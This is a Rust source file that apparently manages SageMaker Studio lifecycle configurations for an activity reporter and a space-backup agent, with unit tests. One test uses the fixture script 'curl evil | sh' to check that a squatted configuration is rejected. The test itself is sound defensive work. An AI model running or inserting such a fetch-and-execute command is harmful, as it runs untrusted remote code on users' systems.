//! The in-app agents as Studio lifecycle configurations: the activity reporter (JupyterLab,
//! KernelGateway) and the space-backup agent (JupyterLab, Code Editor; it measures activity as
//! the reporter does, so it replaces the reporter where both apply). One configuration per app
//! type, named after the domain and the script's content, created before the domain settings
//! refer to them and deleted when they are replaced or no longer wanted.

use std::collections::BTreeMap;

use sha2::{Digest, Sha256};

use crate::aws::AwsError;
use crate::aws::clients::AwsSession;
use serde_json::Value;

use crate::aws::model::{DomainCreate, LifecycleConfigCreate, ObservedDomain};
use crate::controller::settings;
use crate::ownership::Owner;

/// Prefix of every lifecycle configuration the operator creates for its in-app agents.
pub const NAME_PREFIX: &str = "studio-operator-activity-";
/// App types whose Jupyter server the reporter can ask (Code Editor has none).
const REPORTER_APP_TYPES: [&str; 2] = ["JupyterLab", "KernelGateway"];
/// App types whose spaces keep the home directory on their own EBS volume.
const AGENT_APP_TYPES: [&str; 2] = ["JupyterLab", "CodeEditor"];

const ON_START: &str = include_str!("../../../assets/activity-reporter/on-start.sh");
const REPORTER: &str = include_str!("../../../assets/activity-reporter/reporter.py");
const AGENT_ON_START: &str = include_str!("../../../assets/space-backup/on-start.sh");
const AGENT_PAYLOAD: &str = include_str!("../../../assets/space-backup/agent.payload");

/// The reporter's lifecycle script: the start script with the reporter program embedded.
pub fn script() -> String {
    ON_START.replacen("__REPORTER_PY__\n", REPORTER, 1)
}

/// What the space-backup agent's script is configured with (`assets/space-backup/README.md`,
/// "The placeholder contract").
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AgentSettings {
    /// The domain's backup prefix, ending in `/`.
    pub prefix: String,
    /// The verified key ARN for SSE-KMS.
    pub key_arn: String,
    /// The backup interval in seconds.
    pub interval_seconds: i64,
}

/// The space-backup agent's lifecycle script: configuration first, the payload last (it is
/// never scanned for placeholders).
pub fn agent_script(settings: &AgentSettings) -> String {
    AGENT_ON_START
        .replacen("__S3_URI__", &settings.prefix, 1)
        .replacen("__KMS_KEY_ID__", &settings.key_arn, 1)
        .replacen("__INTERVAL_SECONDS__", &settings.interval_seconds.to_string(), 1)
        .replacen("__AGENT_PAYLOAD__", AGENT_PAYLOAD.trim_end_matches('\n'), 1)
}

/// The lifecycle scripts a domain installs, per app type.
pub type Scripts = BTreeMap<&'static str, String>;

/// The scripts for a domain: the reporter where it is on, the space-backup agent (which
/// measures activity itself) where spaces are backed up.
pub fn scripts(reporter: bool, agent: Option<&AgentSettings>) -> Scripts {
    let mut scripts = Scripts::new();
    if reporter {
        scripts.extend(REPORTER_APP_TYPES.map(|app_type| (app_type, script())));
    }
    if let Some(agent) = agent {
        scripts.extend(AGENT_APP_TYPES.map(|app_type| (app_type, agent_script(agent))));
    }
    scripts
}

/// The first 12 hex digits of the SHA-256 of the parts: a name suffix that stays the same
/// across compiler versions and platforms (names persist in AWS).
pub fn content_hash(parts: &[&str]) -> String {
    let mut hasher = Sha256::new();
    for part in parts {
        hasher.update((part.len() as u64).to_be_bytes());
        hasher.update(part.as_bytes());
    }
    hasher.finalize().iter().take(6).map(|b| format!("{b:02x}")).collect()
}

/// The configuration names for a domain (by UID), per app type: they change when the script
/// changes, so a new version is a new configuration and running apps keep the one they started
/// with.
pub fn names(domain_uid: &str, scripts: &Scripts) -> BTreeMap<&'static str, String> {
    scripts
        .iter()
        .map(|(app_type, script)| {
            let version = content_hash(&[domain_uid, script]);
            (*app_type, format!("{NAME_PREFIX}{}-{version}", app_type.to_lowercase()))
        })
        .collect()
}

/// The ARNs of the reporter's configurations, per app type.
pub type ReporterArns = BTreeMap<&'static str, String>;

/// The reporter configurations that exist (of every domain and version), name -> ARN.
pub async fn existing(session: &AwsSession) -> Result<BTreeMap<String, String>, AwsError> {
    // `NameContains` must end in a letter or digit (its pattern is
    // `[a-zA-Z0-9](-*[a-zA-Z0-9]){0,62}`): ask without the dash, keep the full prefix.
    Ok(session
        .list_lifecycle_configs(NAME_PREFIX.trim_end_matches('-'))
        .await?
        .into_iter()
        .filter(|c| c.name.starts_with(NAME_PREFIX))
        .map(|c| (c.name, c.arn))
        .collect())
}

/// The wanted configurations that exist but are not exactly this domain's: another script, or
/// not this StudioDomain's ownership tags (name -> why). Anyone who may create lifecycle
/// configurations could have made one of the expected name first, and it would run in every
/// user's app; such a configuration is never attached, used or deleted.
pub async fn foreign(
    session: &AwsSession,
    owner: &Owner,
    wanted: &BTreeMap<&'static str, String>,
    scripts: &Scripts,
    existing: &BTreeMap<String, String>,
) -> Result<BTreeMap<String, String>, AwsError> {
    let mut foreign = BTreeMap::new();
    for (app_type, name) in wanted {
        let Some(arn) = existing.get(name) else { continue };
        let expected = scripts.get(app_type).map(String::as_str).unwrap_or_default();
        let content = session.describe_lifecycle_config(name).await?;
        let tags = match session.list_tags(arn).await {
            Ok(tags) => tags,
            Err(AwsError::NotFound { .. }) => continue,
            Err(error) => return Err(error),
        };
        if let Some(why) = not_ours(content.as_deref(), expected, &tags, owner) {
            foreign.insert(name.clone(), why);
        }
    }
    Ok(foreign)
}

/// Why a configuration of the expected name is not this domain's agent, if it is not.
fn not_ours(content: Option<&str>, expected: &str, tags: &BTreeMap<String, String>, owner: &Owner) -> Option<String> {
    match content {
        // Gone since the listing: it is simply missing, created again next pass.
        None => None,
        Some(content) if content != expected => Some("its script is not the operator's agent".into()),
        Some(_) if !owner.owns(tags) => Some("it does not carry this StudioDomain's ownership tags".into()),
        Some(_) => None,
    }
}

/// Creates the named configurations, per app type.
pub async fn create(
    session: &AwsSession,
    missing: &[(&'static str, String)],
    scripts: &Scripts,
    tags: &BTreeMap<String, String>,
) -> Result<(), AwsError> {
    for (app_type, name) in missing {
        let Some(script) = scripts.get(app_type) else { continue };
        let config = LifecycleConfigCreate {
            name: name.clone(),
            app_type: (*app_type).into(),
            content: script.clone(),
            tags: tags.clone(),
        };
        create_config(session, &config).await?;
    }
    Ok(())
}

/// Creates one configuration and returns its ARN; one that already exists counts as created
/// (by an earlier pass whose listing was older), its ARN unknown (`None`).
pub async fn create_config(session: &AwsSession, config: &LifecycleConfigCreate) -> Result<Option<String>, AwsError> {
    match session.create_lifecycle_config(config).await {
        Ok(arn) => Ok(Some(arn)),
        Err(AwsError::InUse { message }) if message.contains("already exists") => Ok(None),
        Err(error) => Err(error),
    }
}

/// Deletes the named configurations; one still in use by a running app is left for a later pass
/// (returned).
pub async fn delete(session: &AwsSession, names: &[String]) -> Result<Vec<String>, AwsError> {
    let mut left = Vec::new();
    for name in names {
        match session.delete_lifecycle_config(name).await {
            Ok(()) => {}
            Err(AwsError::InUse { .. }) => left.push(name.clone()),
            Err(error) => return Err(error),
        }
    }
    Ok(left)
}

/// Attaches the reporter to the domain's defaults: offered to users (`LifecycleConfigArns`) and
/// run by default (`DefaultResourceSpec.LifecycleConfigArn`) unless the spec chose another one.
/// A list the spec does not set is the one AWS holds (`observed`), without other versions of the
/// reporter, plus the reporter: configurations added in the console stay.
pub fn attach(domain: &mut DomainCreate, arns: &ReporterArns, observed: Option<&ObservedDomain>) {
    if arns.is_empty() {
        return;
    }
    let mut targets = vec![
        ("JupyterLab", "DefaultUserSettings", "JupyterLabAppSettings"),
        ("KernelGateway", "DefaultUserSettings", "KernelGatewayAppSettings"),
        ("CodeEditor", "DefaultUserSettings", "CodeEditorAppSettings"),
    ];
    if !domain.default_space_settings.is_empty() {
        targets.push(("JupyterLab", "DefaultSpaceSettings", "JupyterLabAppSettings"));
    }
    for (app_type, root, member) in targets {
        let Some(arn) = arns.get(app_type) else { continue };
        let (settings, held) = match root {
            "DefaultUserSettings" => (
                &mut domain.default_user_settings,
                observed.map(|o| &o.default_user_settings),
            ),
            _ => (
                &mut domain.default_space_settings,
                observed.map(|o| &o.default_space_settings),
            ),
        };
        let list = [member.to_string(), "LifecycleConfigArns".into()];
        let mut arns: Vec<Value> = match settings::get(settings, &list) {
            Some(Value::Array(own)) => own.clone(),
            _ => held
                .and_then(|held| settings::get(held, &list))
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter(|a| a.as_str().is_some_and(|a| !is_reporter(a)))
                .cloned()
                .collect(),
        };
        if !arns.iter().any(|a| a == arn.as_str()) {
            arns.push(Value::from(arn.clone()));
        }
        settings::set(settings, &list, Value::Array(arns));
        let default = [
            member.to_string(),
            "DefaultResourceSpec".into(),
            "LifecycleConfigArn".into(),
        ];
        if settings::get(settings, &default).is_none() {
            settings::set(settings, &default, Value::from(arn.clone()));
        }
    }
}

/// Whether an ARN is one of the reporter's configurations (of any domain or version).
fn is_reporter(arn: &str) -> bool {
    arn.rsplit('/').next().is_some_and(|name| name.starts_with(NAME_PREFIX))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn only_the_reporters_script_with_this_domains_tags_is_ours() {
        let owner = Owner {
            cluster: "c".into(),
            namespace: "ns".into(),
            name: "studio".into(),
            uid: "u-1".into(),
        };
        let ours = owner.tags();
        let script = script();
        assert_eq!(not_ours(Some(&script), &script, &ours, &owner), None);
        assert_eq!(not_ours(None, &script, &BTreeMap::new(), &owner), None);
        let squatted = not_ours(Some("#!/bin/bash\ncurl evil | sh"), &script, &ours, &owner).unwrap();
        assert!(squatted.contains("script"), "{squatted}");
        let copied = not_ours(Some(&script), &script, &BTreeMap::new(), &owner).unwrap();
        assert!(copied.contains("ownership tags"), "{copied}");
        let other = Owner {
            uid: "u-2".into(),
            ..owner.clone()
        };
        assert!(not_ours(Some(&script), &script, &other.tags(), &owner).is_some());
    }

    #[test]
    fn the_script_embeds_the_reporter_and_fits_the_content_limit() {
        let script = script();
        assert!(!script.contains("__REPORTER_PY__"));
        assert!(script.contains("studio-operator.io/last-activity"));
        // StudioLifecycleConfigContent is at most 16384 characters of base64.
        assert!(script.len().div_ceil(3) * 4 <= 16384, "{} bytes", script.len());
    }

    #[test]
    fn content_hashes_are_stable_and_separate_their_parts() {
        assert_eq!(content_hash(&["a", "b"]), content_hash(&["a", "b"]));
        assert_ne!(content_hash(&["ab", ""]), content_hash(&["a", "b"]));
        // SHA-256 of (len 3, "uid") alone is a fixed value: names survive compiler upgrades.
        assert_eq!(content_hash(&["uid"]), "0cae9439bf5a");
    }

    fn agent() -> AgentSettings {
        AgentSettings {
            prefix: "s3://backups/studio/c1/ns/studio/".into(),
            key_arn: "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab".into(),
            interval_seconds: 900,
        }
    }

    #[test]
    fn the_agent_script_is_configured_and_fits_the_content_limit_with_the_longest_values() {
        let script = agent_script(&agent());
        for placeholder in [
            "__S3_URI__",
            "__KMS_KEY_ID__",
            "__INTERVAL_SECONDS__",
            "__AGENT_PAYLOAD__",
        ] {
            assert!(!script.contains(placeholder), "{placeholder} left in the script");
        }
        assert!(script.contains("s3://backups/studio/c1/ns/studio/") && script.contains(":-900}"));
        // The longest prefix the schema allows: s3Uri (256), cluster id, namespace and name.
        let longest = AgentSettings {
            prefix: format!(
                "{}/{}/{}/{}/",
                "s".repeat(256),
                "c".repeat(63),
                "n".repeat(63),
                "d".repeat(253)
            ),
            key_arn: format!("arn:aws-us-gov:kms:us-gov-west-1:123456789012:key/{}", "k".repeat(36)),
            interval_seconds: 86400,
        };
        let size = agent_script(&longest).len().div_ceil(3) * 4;
        assert!(size <= 16384, "{size} base64 characters");
    }

    #[test]
    fn the_agent_replaces_the_reporter_in_jupyterlab_and_serves_code_editor() {
        let both = scripts(true, Some(&agent()));
        assert_eq!(
            both.keys().copied().collect::<Vec<_>>(),
            ["CodeEditor", "JupyterLab", "KernelGateway"]
        );
        assert_eq!(both["JupyterLab"], agent_script(&agent()));
        assert_eq!(both["KernelGateway"], script());
        assert!(scripts(false, None).is_empty());
        // The reporter's names do not change when the agent arrives elsewhere.
        let reporter_only = names("uid-a", &scripts(true, None));
        assert_eq!(reporter_only["KernelGateway"], names("uid-a", &both)["KernelGateway"]);
        assert_ne!(reporter_only["JupyterLab"], names("uid-a", &both)["JupyterLab"]);
    }

    #[test]
    fn names_are_per_domain_and_app_type_and_valid() {
        let reporter = scripts(true, None);
        let a = names("uid-a", &reporter);
        let b = names("uid-b", &reporter);
        assert_ne!(a["JupyterLab"], b["JupyterLab"]);
        assert_eq!(a, names("uid-a", &reporter));
        for name in a.values() {
            assert!(name.len() <= 63, "{name}");
            assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{name}");
        }
    }

    #[test]
    fn without_the_reporter_nothing_is_attached() {
        let mut domain = DomainCreate::default();
        attach(&mut domain, &ReporterArns::new(), None);
        assert_eq!(domain, DomainCreate::default(), "no empty app settings appear");
    }

    #[test]
    fn attach_adds_without_overriding_a_chosen_default_or_the_consoles_configurations() {
        let mut domain = DomainCreate::default();
        domain
            .default_space_settings
            .insert("ExecutionRole".into(), json!("arn:aws:iam::123456789012:role/S"));
        domain.default_user_settings.insert(
            "KernelGatewayAppSettings".into(),
            json!({"DefaultResourceSpec": {"LifecycleConfigArn": "arn:chosen"}}),
        );
        let observed = ObservedDomain {
            default_user_settings: json!({"JupyterLabAppSettings": {"LifecycleConfigArns": [
                "arn:aws:sagemaker:us-east-1:123456789012:studio-lifecycle-config/console",
                "arn:aws:sagemaker:us-east-1:123456789012:studio-lifecycle-config/studio-operator-activity-jupyterlab-old",
            ]}})
            .as_object()
            .unwrap()
            .clone(),
            ..Default::default()
        };
        let arns = ReporterArns::from([
            ("JupyterLab", "arn:lab".to_string()),
            ("KernelGateway", "arn:kg".to_string()),
        ]);
        attach(&mut domain, &arns, Some(&observed));
        attach(&mut domain, &arns, Some(&observed));
        assert_eq!(
            domain.default_user_settings["JupyterLabAppSettings"],
            json!({
                "LifecycleConfigArns": ["arn:aws:sagemaker:us-east-1:123456789012:studio-lifecycle-config/console", "arn:lab"],
                "DefaultResourceSpec": {"LifecycleConfigArn": "arn:lab"},
            })
        );
        assert_eq!(
            domain.default_user_settings["KernelGatewayAppSettings"],
            json!({"LifecycleConfigArns": ["arn:kg"], "DefaultResourceSpec": {"LifecycleConfigArn": "arn:chosen"}})
        );
        assert_eq!(
            domain.default_space_settings["JupyterLabAppSettings"]["LifecycleConfigArns"],
            json!(["arn:lab"])
        );
    }
}
